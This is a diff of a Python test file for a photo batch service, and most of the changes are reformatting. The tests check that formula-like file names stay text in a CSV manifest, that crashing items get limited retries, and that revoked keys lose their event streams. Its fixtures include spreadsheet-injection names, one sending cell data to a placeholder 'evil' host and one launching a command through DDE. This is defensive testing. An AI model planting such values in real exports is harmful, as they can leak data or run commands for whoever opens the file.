@@ -1,6 +1,7 @@
 """Finding 9, in part: a manifest cell that a spreadsheet would run as a formula stays
 text, and retrying a batch item that took its worker down every time gives it one start
 more, not a fresh three (an owner could keep crashing the shared worker)."""
+
 from __future__ import annotations
 
 import csv
@@ -17,14 +18,20 @@ def _batch(redis_client, names: list[str]):
     batches = BatchStore(JobStore(redis_client, 3600))
     b = batches.create(kind="enhance", owner="o", params={}, task="enhance.photo")
     for i, name in enumerate(names):
-        batches.add_photo(batches.get(b["id"]), input={"blob": f"b/{i}", "name": name, "sha256": f"{i:064x}",
-                                                       "bytes": 1})
+        batches.add_photo(
+            batches.get(b["id"]), input={"blob": f"b/{i}", "name": name, "sha256": f"{i:064x}", "bytes": 1}
+        )
     return batches, b["id"]
 
 
 def test_a_file_named_like_a_formula_is_text_in_the_csv_manifest(redis_client):
-    names = ['=HYPERLINK("http://evil/?"&A1,"open").jpg', "+cmd|' /C calc'!A0.jpg", "-2+3.jpg", "@SUM(1).jpg",
-             "normal.jpg"]
+    names = [
+        '=HYPERLINK("http://evil/?"&A1,"open").jpg',
+        "+cmd|' /C calc'!A0.jpg",
+        "-2+3.jpg",
+        "@SUM(1).jpg",
+        "normal.jpg",
+    ]
     batches, bid = _batch(redis_client, names)
     rows = list(csv.DictReader(io.StringIO("".join(manifest_csv(batches, bid)))))
     got = [r["name"] for r in rows]
@@ -54,6 +61,7 @@ def test_a_revoked_keys_open_stream_ends_within_seconds(gateway, redis_client):
     import time
 
     from services.store.apikeys import list_keys, revoke_key
+
     client, auth, _ = gateway()
     bid = client.post("/api/v1/batches", headers=auth, json={"params": {}}).json["id"]
     resp = client.get(f"/api/v1/batches/{bid}/events", headers=auth, buffered=False)
